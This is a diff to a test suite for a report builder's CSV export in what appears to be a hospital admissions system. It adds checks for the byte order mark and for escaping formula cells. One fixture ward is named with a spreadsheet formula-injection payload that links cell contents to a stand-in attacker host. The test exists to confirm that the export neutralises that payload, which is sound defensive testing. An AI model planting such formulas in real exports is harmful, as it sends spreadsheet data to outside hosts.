@@ -93,12 +93,26 @@ describe("report builder", () => {
   it("writes one audit event per run and per export, with the spec and no results", async () => {
     await runReport(db(), admin, spec(PER_WARD_MONTH));
     const csv = await reportCsv(db(), admin, spec(PER_WARD_MONTH));
-    expect(csv.body.split("\n")[0]).toBe("ward,admittedAt_month,count");
+    expect(csv.body.startsWith("\uFEFF")).toBe(true);
+    expect(csv.body.slice(1).split("\n")[0]).toBe("ward,admittedAt_month,count");
     expect(csv.body).toContain("Alder,2026-01,2");
     const events = await db().auditEvent.findMany({ where: { entity: "ReportBuilder" }, orderBy: { seq: "asc" } });
     expect(events.map((e) => [e.action, e.actorId])).toEqual([["VIEW", admin.actor.id], ["EXPORT", admin.actor.id]]);
     expect(events[0].details).toMatchObject({ entity: "admissions", groupBy: [{ field: "ward" }, { field: "admittedAt", granularity: "month" }], page: 1 });
     expect(JSON.stringify(events.map((e) => e.details))).not.toContain("Alder");
+  });
+
+  it("writes its CSV with the byte order mark and every formula cell as text (a ward named by an admin)", async () => {
+    const [evil] = await ward('=HYPERLINK("https://evil.example/?"&A1,"Open")');
+    const [accent] = await ward("Érable 2 °C");
+    const p = await seedPatient(db(), { firstName: "Zoé", lastName: "Stay", dateOfBirth: "1980-01-01", sex: "female" });
+    await stay(p.id, evil.id, "2026-03-05T10:00:00Z", "2026-03-07T10:00:00Z");
+    await stay(p.id, accent.id, "2026-03-09T10:00:00Z", "2026-03-10T10:00:00Z");
+    const csv = await reportCsv(db(), admin, spec({ ...PER_WARD_MONTH, filters: [{ field: "admittedAt", op: "between", value: ["2026-03-01", "2026-03-31"] }] }));
+    expect(csv.body.startsWith("\uFEFF")).toBe(true);
+    const [header, ...rows] = csv.body.slice(1).trimEnd().split("\n");
+    expect(header).toBe("ward,admittedAt_month,count");
+    expect(rows.sort()).toEqual(['"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",2026-03,1', "Érable 2 °C,2026-03,1"].sort());
   });
 
   it("refuses a non-admin and audits nothing", async () => {
